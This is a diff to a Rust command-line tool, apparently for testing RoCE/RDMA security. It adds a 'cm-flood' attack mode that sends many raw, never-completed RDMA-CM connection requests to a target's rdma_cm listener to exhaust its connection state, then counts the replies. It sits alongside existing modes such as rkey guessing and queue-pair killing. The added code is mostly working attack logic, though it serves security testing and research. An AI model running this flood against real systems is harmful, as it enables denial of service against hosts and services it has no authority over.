@@ -40,6 +40,10 @@ pub enum AttackKind {
     /// (§9.7.5.1.3), each sending the READ's bytes toward the requester. Reported: the READ
     /// response bytes beyond what the requester asked for, per byte the attacker sent.
     ReadReplay,
+    /// Connection-state exhaustion through RDMA-CM (off-path, the SYN flood's twin): REQs to
+    /// `--target`'s rdma_cm listener on `--port`, each a new connection from the attacker's own
+    /// address, never followed up ([`attack::cm_flood`]); counts what the target answers.
+    CmFlood,
     /// Only watch: the QPNs and R_Keys seen, for prediction.
     Observe,
 }
@@ -72,14 +76,15 @@ pub struct AttackArgs {
     #[arg(long, value_enum, default_value = "full")]
     spoof: Spoof,
     /// Frames to send (kill-qp default 4096, nak-flood 100000, nak-on-path 256, psn-guess
-    /// 100000, rkey-guess 4096 at most, read-replay 1000; qpn-scan: QPNs to try, default 4096).
+    /// 100000, rkey-guess 4096 at most, read-replay 1000, cm-flood 1024; qpn-scan: QPNs to try,
+    /// default 4096).
     #[arg(long)]
     count: Option<u64>,
     /// qpn-scan: the first QPN tried (rxe's first is 0x11).
     #[arg(long, default_value = "0x11", value_parser = parse_qpn)]
     from: u32,
-    /// qpn-scan: µs to wait for NAKs after each batch of 16 probes; read-replay: µs between
-    /// replays.
+    /// qpn-scan: µs to wait for NAKs after each batch of 16 probes; read-replay and cm-flood:
+    /// µs between frames.
     #[arg(long, default_value_t = 2000)]
     probe_us: u64,
     /// rkey-guess: how the keys are picked.
@@ -92,6 +97,12 @@ pub struct AttackArgs {
     /// oldest first (`uroce attack observe` prints them).
     #[arg(long, value_delimiter = ',', value_parser = parse_key)]
     seen: Vec<u32>,
+    /// cm-flood: the target's address.
+    #[arg(long)]
+    target: Option<std::net::Ipv4Addr>,
+    /// cm-flood: the port of the target's rdma_cm listener (perftest -R: 18515; rping: 7174).
+    #[arg(long, default_value_t = 18515)]
+    port: u16,
     /// Seconds to wait for a connection to learn.
     #[arg(long, default_value_t = 20)]
     learn_timeout: u64,
@@ -146,7 +157,11 @@ fn drain(sock: &RawSocket, learner: &mut Learner, buf: &mut [u8]) -> Result<()> 
 pub fn run(a: &AttackArgs) -> Result<ExitCode> {
     let sock =
         RawSocket::open(&a.iface).with_context(|| format!("AF_PACKET socket on {} (needs CAP_NET_RAW)", a.iface))?;
-    let own_mac = uroce_io::netif::Interface::by_name(&a.iface).with_context(|| format!("interface {}", a.iface))?.mac;
+    let own = uroce_io::netif::Interface::by_name(&a.iface).with_context(|| format!("interface {}", a.iface))?;
+    let own_mac = own.mac;
+    if a.kind == AttackKind::CmFlood {
+        return cm_flood(a, &sock, &own);
+    }
     let mut learner = Learner::default();
     if !attack::learn(&sock, &mut learner, Duration::from_secs(a.learn_timeout))? {
         bail!("no RC connection with traffic both ways seen on {} in {} s", a.iface, a.learn_timeout);
@@ -420,7 +435,7 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
                 again as f64 / attacker_bytes.max(1) as f64
             );
         }
-        AttackKind::Observe => {}
+        AttackKind::Observe | AttackKind::CmFlood => {}
     }
     let attack_time = t0.elapsed();
     // judge by what the connection does once the attack's frames have settled (the second
@@ -470,6 +485,50 @@ pub fn run(a: &AttackArgs) -> Result<ExitCode> {
             a.from,
             f.map_or("-".to_string(), |q| format!("{q:#08x}"))
         ))
+    );
+    Ok(ExitCode::SUCCESS)
+}
+
+/// `uroce attack cm-flood`.
+fn cm_flood(a: &AttackArgs, sock: &RawSocket, own: &uroce_io::netif::Interface) -> Result<ExitCode> {
+    use attack::cm_flood::{req_frame, Answers, Ends};
+    let target = a.target.context("cm-flood needs --target: the address of the target's rdma_cm listener")?;
+    let me = *own.ipv4.first().with_context(|| format!("{} has no IPv4 address to send from", a.iface))?;
+    let dst_mac = uroce_io::netif::resolve_mac(&a.iface, std::net::IpAddr::V4(target), Duration::from_secs(3))
+        .with_context(|| format!("the MAC of {target}"))?;
+    let e = Ends { src: (own.mac, me), dst: (dst_mac, target) };
+    let mut rng = crate::fuzz::Rng::new(Instant::now().elapsed().as_nanos() as u64 ^ u64::from(std::process::id()));
+    let (mut answers, mut buf, mut sent) = (Answers::default(), vec![0u8; 65536], 0u64);
+    let drain = |answers: &mut Answers, buf: &mut [u8]| -> Result<()> {
+        while let Some(n) = sock.recv(buf, Duration::ZERO)? {
+            answers.see(&buf[..n], target, me);
+        }
+        Ok(())
+    };
+    let t0 = Instant::now();
+    for _ in 0..a.count.unwrap_or(1024) {
+        let until = Instant::now() + Duration::from_micros(a.probe_us.min(1_000_000));
+        while Instant::now() < until {
+            drain(&mut answers, &mut buf)?;
+        }
+        let r = rng.next_u64();
+        let f = req_frame(&e, a.port, r as u32, (r >> 32) as u32, (r >> 40) as u32, 0x8000 | (r >> 48) as u16);
+        sock.send(&f)?;
+        sent += 1;
+    }
+    let in_ms = t0.elapsed().as_millis();
+    // the answers that trail the last REQ (a REP's retries, late REJs)
+    let until = Instant::now() + Duration::from_millis(a.watch_ms);
+    while Instant::now() < until {
+        if let Some(n) = sock.recv(&mut buf, Duration::from_millis(10))? {
+            answers.see(&buf[..n], target, me);
+        }
+    }
+    println!(
+        "uroce-attack: kind=CmFlood target={target}:{} from={me} sent={sent} in_ms={in_ms} answered={} {}",
+        a.port,
+        answers.answered.len(),
+        answers.line()
     );
     Ok(ExitCode::SUCCESS)
 }
